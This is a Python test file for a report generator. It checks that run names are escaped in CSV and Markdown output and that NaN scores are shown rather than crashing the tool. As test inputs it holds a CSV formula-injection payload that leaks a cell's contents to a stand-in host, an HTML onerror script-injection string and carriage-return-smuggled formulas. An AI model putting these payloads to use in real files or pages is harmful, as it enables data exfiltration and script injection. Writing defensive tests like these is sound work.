"""Names and values from runs are data in every report file: no formula in a CSV cell, no HTML or
Markdown in a .md table, and a NaN in a prediction row is shown, not a crash."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from tests.helpers.cli import clue
from tests.helpers.fake_runs import level1_tasks, write_run

# Folder names: anything but "/".
FORMULA = '=HYPERLINK("https:evil.invalid?leak="&A1,"click")'
HTML = "<img src=x onerror=alert(1)>*bold* [link](https:evil.invalid) | cell"


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_names_are_data_in_csv_and_markdown(tmp_path):
    formula_run = write_run(tmp_path / FORMULA, "org/base-model", level1_tasks(40, n=60))
    html_run = write_run(tmp_path / HTML, "+SUM(1,2)", level1_tasks(30, n=60))
    pairs = tmp_path / "pairs.toml"
    pairs.write_text(f'[[pair]]\nbiomedical = {json.dumps(HTML)}\nbase = {json.dumps(FORMULA)}\nnote = "@cmd"\n')
    out = tmp_path / "report"
    proc = clue("report", str(formula_run), str(html_run), "--pairs", str(pairs), "--out", str(out), "--resamples", "200")
    assert proc.returncode == 0, proc.stderr

    for name in ("leaderboard.csv", "pairs.csv", "diagnostics.csv"):
        values = cells(out / name)
        assert "'" + FORMULA in values, name
        assert FORMULA not in values, name
        assert not [v for v in values if v[:1] in ("=", "+", "@", "\t", "\r")], name
    assert "'+SUM(1,2)" in cells(out / "leaderboard.csv")
    assert "'@cmd" in cells(out / "pairs.csv")
    # Numbers stay numbers: a negative delta is not quoted.
    assert any(v.startswith("-") and v[1:2].isdigit() for v in cells(out / "pairs.csv"))

    for name in ("leaderboard.md", "diagnostics.md", "pairs.md"):
        text = (out / name).read_text(encoding="utf-8")
        assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text, name
        assert "\\*bold\\*" in text and "\\[link\\](https:evil.invalid)" in text and "\\| cell" in text, name


def test_a_nan_in_a_prediction_row_is_shown_not_a_crash(tmp_path):
    run = write_run(tmp_path / "run", "org/model", {"meqsum": {"rouge1": [0.5, 0.25, 0.75]}})
    rows = [json.loads(line) for line in (run / "predictions" / "meqsum.jsonl").read_text().splitlines()]
    rows[1]["metrics"]["rouge1"] = float("nan")
    (run / "predictions" / "meqsum.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))  # writes NaN
    out = tmp_path / "report"
    proc = clue("report", str(run), "--out", str(out), "--show-items")
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    page = (out / "report.html").read_text(encoding="utf-8")
    # The item browser shows scores as the tables do; a NaN shows as NaN, not as a crash or a number.
    assert "rouge1 NaN" in page and "rouge1 50.0" in page
    # An output that is not text is not a prediction row: the typed reader names the file, line and field.
    rows[2]["output"] = float("nan")
    (run / "predictions" / "meqsum.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    proc = clue("report", str(run), "--out", str(out), "--show-items")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "meqsum.jsonl: line 3: field 'output': expected text, found float" in proc.stderr


def test_a_carriage_return_cannot_end_a_csv_row():
    """Issue 21 item 5: a model named "\\r=1+1 v8" must stay one quoted cell, never a row starting with =1+1."""
    import csv
    import io

    from clue.report.tables import csv_text

    text = csv_text(["model", "score"], [{"model": "\r=1+1 v8", "score": 1.5}, {"model": "a\rb", "score": 2}])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["model", "score"], ["'\r'=1+1 v8", "1.5"], ["a\rb", "2"]]
    for line in text.replace("\r", "\n").split("\n"):  # a reader that ends rows at any line break, quotes or not
        assert not line.startswith(("=", "+", "-", "@"))
